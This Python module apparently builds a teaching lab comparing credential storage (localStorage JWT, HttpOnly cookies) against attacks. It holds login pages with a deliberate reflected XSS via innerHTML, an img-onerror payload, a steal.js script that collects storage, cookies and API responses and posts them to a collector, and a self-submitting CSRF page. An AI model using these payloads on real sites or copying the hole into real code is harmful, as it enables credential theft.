"""The web pages of the browser lab: a victim site, the attacker's collector, an evil site.

Three small pieces, each a plain ASGI app you can serve with `authdemo.server.serve`:

    create_lab_app(settings)      the hardened app (create_app) plus the lab's pages:
        GET  /lab/                      an index of the three login modes
        GET  /lab/{mode}                a login page; `mode` is one of MODES
        GET  /attacker/steal.js         the attacker's script (what an XSS would run)
        POST /attacker/collect          where that script sends what it found
        GET  /attacker/loot             what it has received so far
    create_seed_lab_app()         the seed port, plus a page to log in from (GET /lab/)
    create_evil_site(targets)     another site, with a form that posts itself to a target
    RequestLog(app)               wraps an app and records which cookies each request carried

Every lab page has the same deliberate bug: it writes the `?comment=` parameter into
the page as HTML. That is a reflected XSS, the most common kind, and `XSS_PAYLOAD` is
the attacker's comment: an image that fails to load and, on error, loads steal.js.
What steal.js can and cannot take depends only on where the page keeps the credential.

VULNERABLE ON PURPOSE (the pages, not the API behind them). Loopback demos only.
"""

from __future__ import annotations

import html
import json
from collections import deque
from collections.abc import Mapping
from dataclasses import asdict, dataclass
from http.cookies import SimpleCookie
from typing import Any

from fastapi import APIRouter, FastAPI, HTTPException, Request
from fastapi.responses import HTMLResponse, Response
from starlette.datastructures import Headers
from starlette.types import ASGIApp, Message, Receive, Scope, Send

from authdemo.app import create_app
from authdemo.settings import Settings
from authdemo.users import DEMO_PASSWORDS, UserDirectory
from authdemo.vulnerable_seed import create_vulnerable_seed_app


@dataclass(frozen=True)
class LabMode:
    """Where one login page keeps the credential, and which routes it uses."""

    name: str
    title: str
    login_path: str
    delivery: str | None  # the JWT login's `delivery` field; None for the session login
    me_path: str
    logout_path: str
    credential: str  # where the credential lives in the browser, in words
    explanation: str


MODES: dict[str, LabMode] = {m.name: m for m in (
    LabMode("localstorage", "JWT kept in localStorage", "/jwt/login", "body", "/jwt/me",
            "/jwt/logout", "localStorage['access_token']",
            "The page logs in with body delivery, keeps the access token in localStorage and "
            "sends it as Authorization: Bearer. Any script on this origin can read it."),
    LabMode("httponly-jwt", "JWT in an HttpOnly cookie", "/jwt/login", "cookie", "/jwt/me",
            "/jwt/logout", "cookie authdemo_access (HttpOnly, SameSite=Strict, Path=/jwt)",
            "The page logs in with cookie delivery: the browser keeps the tokens in HttpOnly "
            "cookies that page scripts cannot read, and attaches them to requests itself."),
    LabMode("httponly-session", "Session id in an HttpOnly cookie", "/session/login", None,
            "/session/me", "/session/logout", "cookie authdemo.sid (HttpOnly, SameSite=Lax)",
            "The page logs in to a server-side session: the browser keeps only the signed "
            "session id, in an HttpOnly cookie."),
)}

DEMO_USER = "alice"
LAB_THEME_COOKIE = "lab_theme"
"""An ordinary cookie every lab page sets from JavaScript, so the attacker has something
readable: it proves document.cookie works, and shows that HttpOnly ones are missing."""

XSS_PAYLOAD = ('<img src="x" onerror="const s = document.createElement(\'script\'); '
               's.src = \'/attacker/steal.js\'; document.head.append(s)">')
"""The attacker's `?comment=`: innerHTML does not run <script> tags, but it does run
an event handler, and the handler can load any script."""

MAX_LOOT_ENTRIES = 100
MAX_LOOT_BYTES = 64 * 1024


# --- the victim's pages -------------------------------------------------------------------
_PAGE = """<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>authdemo lab: __TITLE__</title>
<style>
 body { font-family: system-ui, sans-serif; max-width: 46rem; margin: 2rem auto;
        line-height: 1.45 }
 .box { border: 1px solid #ccc; border-radius: 4px; padding: .5rem 1rem; margin: 1rem 0 }
 #comment { border-left: 4px solid #c33; padding-left: .5rem; min-height: 1.5rem }
 code { background: #f4f4f4 }
</style></head>
<body data-mode="__MODE__" data-logged-in="unknown">
<p><a href="/lab/">all lab pages</a></p>
<h1>__TITLE__</h1>
<p>__EXPLANATION__</p>
<p>The credential lives in: <code>__CREDENTIAL__</code></p>
<form id="login" class="box">
  <label>username <input name="username" value="__USER__"></label>
  <label>password <input name="password" type="password" value="__PASSWORD__"></label>
  <button type="submit">Log in</button> <button type="button" id="logout">Log out</button>
</form>
<div class="box">Who am I? <code id="me">...</code></div>
<div class="box">
  <b>Latest comment</b> (the bug, on purpose: this page writes the <code>?comment=</code>
  parameter into itself as HTML)
  <div id="comment"></div>
  <p><a id="xss-link" href="#">Open this page with the attacker's comment</a>
  (stands in for a link the attacker gets you to click), then see
  <a href="/attacker/loot">what the attacker received</a>.</p>
</div>
<script>
const LAB = __LAB_JSON__;
const $ = (id) => document.getElementById(id);
document.cookie = "__THEME__=light; path=/; SameSite=Lax";  // an ordinary, readable cookie

function authHeaders() {
  const headers = {};
  const token = localStorage.getItem("access_token");
  if (LAB.mode === "localstorage" && token) headers.Authorization = "Bearer " + token;
  return headers;
}

async function showMe() {
  const answer = await fetch(LAB.me_path, {headers: authHeaders()});
  $("me").textContent = answer.status + " " + await answer.text();
  document.body.dataset.loggedIn = String(answer.ok);
}

$("login").addEventListener("submit", async (event) => {
  event.preventDefault();
  const form = event.target;
  const body = {username: form.username.value, password: form.password.value};
  if (LAB.delivery) body.delivery = LAB.delivery;
  localStorage.removeItem("access_token");
  const answer = await (await fetch(LAB.login_path, {method: "POST",
      headers: {"content-type": "application/json"}, body: JSON.stringify(body)})).json();
  // localStorage mode: the token is now readable by every script on this origin.
  if (answer.access_token) localStorage.setItem("access_token", answer.access_token);
  // cookie modes: only the CSRF token, which state-changing requests must echo.
  if (answer.csrf_token) sessionStorage.setItem("csrf_token", answer.csrf_token);
  await showMe();
});

$("logout").addEventListener("click", async () => {
  const headers = authHeaders();
  headers["x-csrf-token"] = sessionStorage.getItem("csrf_token") || "";
  await fetch(LAB.logout_path, {method: "POST", headers});
  localStorage.removeItem("access_token");
  sessionStorage.removeItem("csrf_token");
  await showMe();
});

// THE BUG, on purpose: input from the URL written into the page as HTML. This is the XSS.
const comment = new URLSearchParams(location.search).get("comment");
if (comment) $("comment").innerHTML = comment;
$("xss-link").href = location.pathname + "?comment=" + encodeURIComponent(LAB.xss_payload);
showMe();
</script>
</body></html>
"""

_INDEX = """<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>authdemo browser lab</title>
<style>body { font-family: system-ui, sans-serif; max-width: 46rem; margin: 2rem auto }</style>
</head><body>
<h1>authdemo browser lab</h1>
<p>Log in on a page, then open it with the attacker's comment (an XSS) and compare what the
attacker's script could take: <a href="/attacker/loot">/attacker/loot</a>.</p>
<ul>__ITEMS__</ul>
</body></html>
"""

# --- the attacker's script ----------------------------------------------------------------
STEAL_JS = """// The attacker's script: what any script running in the page's origin can do.
(async () => {
  const loot = {
    page: location.pathname,
    localStorage: Object.assign({}, localStorage),
    sessionStorage: Object.assign({}, sessionStorage),
    cookie: document.cookie,  // HttpOnly cookies never appear here
    // A cookie's Path is no wall within an origin: a same-origin frame shows Path=/jwt cookies.
    cookie_at_jwt_path: await cookieSeenAt("/jwt/me"),
    api: {},
  };
  // What HttpOnly does not stop: the browser still attaches the cookie to our requests.
  const token = localStorage.getItem("access_token");
  for (const path of ["/jwt/me", "/session/me"]) {
    const headers = token && path.startsWith("/jwt/") ? {Authorization: "Bearer " + token} : {};
    const answer = await fetch(path, {headers});
    loot.api[path] = {status: answer.status, body: await answer.text()};
  }
  await fetch("/attacker/collect", {method: "POST",
      headers: {"content-type": "application/json"}, body: JSON.stringify(loot)});
  window.attackerDone = true;
})();

function cookieSeenAt(path) {
  return new Promise((resolve) => {
    const frame = document.createElement("iframe");
    frame.style.display = "none";
    const finish = (value) => { clearTimeout(timer); frame.remove(); resolve(value); };
    const timer = setTimeout(() => finish(null), 3000);
    frame.onload = () => {
      try { finish(frame.contentDocument.cookie); } catch (error) { finish(null); }
    };
    frame.src = path;
    document.body.append(frame);
  });
}
"""


class Loot:
    """What the attacker's collector has received, newest last (bounded)."""

    def __init__(self) -> None:
        self.entries: deque[dict[str, Any]] = deque(maxlen=MAX_LOOT_ENTRIES)

    def add(self, entry: dict[str, Any]) -> None:
        self.entries.append(entry)

    def latest(self) -> dict[str, Any] | None:
        return self.entries[-1] if self.entries else None


def render_page(mode: LabMode) -> str:
    lab = {"mode": mode.name, "login_path": mode.login_path, "delivery": mode.delivery,
           "me_path": mode.me_path, "logout_path": mode.logout_path,
           "xss_payload": XSS_PAYLOAD}
    replacements = {
        "__TITLE__": html.escape(mode.title), "__MODE__": mode.name,
        "__EXPLANATION__": html.escape(mode.explanation),
        "__CREDENTIAL__": html.escape(mode.credential), "__USER__": DEMO_USER,
        "__PASSWORD__": html.escape(DEMO_PASSWORDS[DEMO_USER][1]), "__THEME__": LAB_THEME_COOKIE,
        # "<" escaped so no value can close the <script> element early
        "__LAB_JSON__": json.dumps(lab).replace("<", "\\u003c"),
    }
    page = _PAGE
    for placeholder, value in replacements.items():
        page = page.replace(placeholder, value)
    return page


def render_index() -> str:
    items = "".join(f'<li><a href="/lab/{m.name}">{html.escape(m.title)}</a>: '
                    f"{html.escape(m.credential)}</li>" for m in MODES.values())
    return _INDEX.replace("__ITEMS__", items)


lab_router = APIRouter(tags=["browser lab"])


@lab_router.get("/lab/", response_class=HTMLResponse)
async def lab_index() -> str:
    return render_index()


@lab_router.get("/lab/{mode}", response_class=HTMLResponse)
async def lab_page(mode: str) -> str:
    if mode not in MODES:
        raise HTTPException(404, f"no lab page {mode!r}; try one of {sorted(MODES)}")
    return render_page(MODES[mode])


@lab_router.get("/attacker/steal.js")
async def steal_js() -> Response:
    return Response(STEAL_JS, media_type="text/javascript")


@lab_router.post("/attacker/collect", status_code=204)
async def collect(request: Request) -> Response:
    raw = await request.body()
    if len(raw) > MAX_LOOT_BYTES:
        raise HTTPException(413, "too much loot")
    try:
        entry = json.loads(raw)
    except ValueError:
        entry = {"raw": raw.decode(errors="replace")}
    request.app.state.lab_loot.add(entry if isinstance(entry, dict) else {"raw": entry})
    return Response(status_code=204)


@lab_router.get("/attacker/loot")
async def loot(request: Request) -> list[dict[str, Any]]:
    return list(request.app.state.lab_loot.entries)


def create_lab_app(settings: Settings | None = None, *,
                   users: UserDirectory | None = None) -> FastAPI:
    """The hardened app with the lab's pages and the attacker's collector on the same origin."""
    app = create_app(settings, users=users, title="authdemo browser lab (hardened app + pages)")
    app.include_router(lab_router)
    app.state.lab_loot = Loot()
    return app


# --- the seed port, with a page to log in from ---------------------------------------------
_SEED_PAGE = """<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>seed port: log in</title>
<style>body { font-family: system-ui, sans-serif; max-width: 46rem; margin: 2rem auto }</style>
</head><body data-logged-in="unknown">
<h1>The seed port (VULNERABLE on purpose)</h1>
<p>Its session cookie <code>connect.sid</code> has no SameSite attribute, and its
<code>POST /session/logout</code> asks for no CSRF token. Its login asks for no password.</p>
<form id="login"><label>username <input name="username" value="__USER__"></label>
<button type="submit">Log in</button></form>
<p>Who am I? <code id="me">...</code></p>
<script>
async function showMe() {
  const answer = await fetch("/session/protected");
  document.getElementById("me").textContent = answer.status + " " + await answer.text();
  document.body.dataset.loggedIn = String(answer.ok);
}
document.getElementById("login").addEventListener("submit", async (event) => {
  event.preventDefault();
  await fetch("/session/login", {method: "POST", headers: {"content-type": "application/json"},
      body: JSON.stringify({username: event.target.username.value})});
  await showMe();
});
showMe();
</script>
</body></html>
"""


def create_seed_lab_app() -> FastAPI:
    """The vulnerable seed port, unchanged, plus a login page at /lab/ (the seed has none)."""
    app = create_vulnerable_seed_app()

    @app.get("/lab/", response_class=HTMLResponse, include_in_schema=False)
    async def seed_login_page() -> str:
        return _SEED_PAGE.replace("__USER__", DEMO_USER)

    return app


# --- the evil site: another origin, for cross-site request forgery ------------------------
_EVIL = """<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>You won a prize!</title></head>
<body><h1>You won a prize!</h1><p>Claiming it...</p>
<form id="forged" method="POST" action="__ACTION__"></form>
<script>document.getElementById("forged").submit();</script>
</body></html>
"""


def create_evil_site(targets: Mapping[str, str]) -> FastAPI:
    """A site on another origin. GET /csrf/{name} answers a page whose form posts itself,
    cookies and all, to `targets[name]` (a full URL on the victim's site)."""
    app = FastAPI(title="evil site (browser lab)", docs_url=None, redoc_url=None,
                  openapi_url=None)
    app.state.targets = dict(targets)

    @app.get("/", response_class=HTMLResponse)
    async def index() -> str:
        links = "".join(f'<li><a href="/csrf/{html.escape(name)}">{html.escape(name)}</a> '
                        f"posts to {html.escape(url)}</li>"
                        for name, url in app.state.targets.items())
        return f"<!doctype html><h1>evil site</h1><ul>{links}</ul>"

    @app.get("/csrf/{name}", response_class=HTMLResponse)
    async def forged_form(name: str) -> str:
        if name not in app.state.targets:
            raise HTTPException(404, "no such target")
        return _EVIL.replace("__ACTION__", html.escape(app.state.targets[name]))

    return app


# --- what arrived at the server -------------------------------------------------------------
@dataclass
class LoggedRequest:
    method: str
    path: str
    cookies: list[str]  # the names of the cookies the browser attached
    sec_fetch_site: str | None  # Fetch Metadata: same-origin, same-site, cross-site, none
    status: int | None = None


class RequestLog:
    """An ASGI wrapper that records every HTTP request: which cookies rode along, from where."""

    def __init__(self, app: ASGIApp, max_entries: int = 500) -> None:
        self.app = app
        self.entries: deque[LoggedRequest] = deque(maxlen=max_entries)

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        if scope["type"] != "http":
            await self.app(scope, receive, send)
            return
        headers = Headers(scope=scope)
        cookies = SimpleCookie()
        try:
            cookies.load(headers.get("cookie", ""))
        except Exception:  # a malformed Cookie header is still a request worth logging
            pass
        entry = LoggedRequest(scope["method"], scope["path"], sorted(cookies),
                              headers.get("sec-fetch-site"))
        self.entries.append(entry)

        async def record_status(message: Message) -> None:
            if message["type"] == "http.response.start":
                entry.status = message["status"]
            await send(message)

        await self.app(scope, receive, record_status)

    def last(self, method: str, path: str) -> LoggedRequest | None:
        for entry in reversed(self.entries):
            if entry.method == method and entry.path == path:
                return entry
        return None

    def as_dicts(self) -> list[dict[str, Any]]:
        return [asdict(e) for e in self.entries]
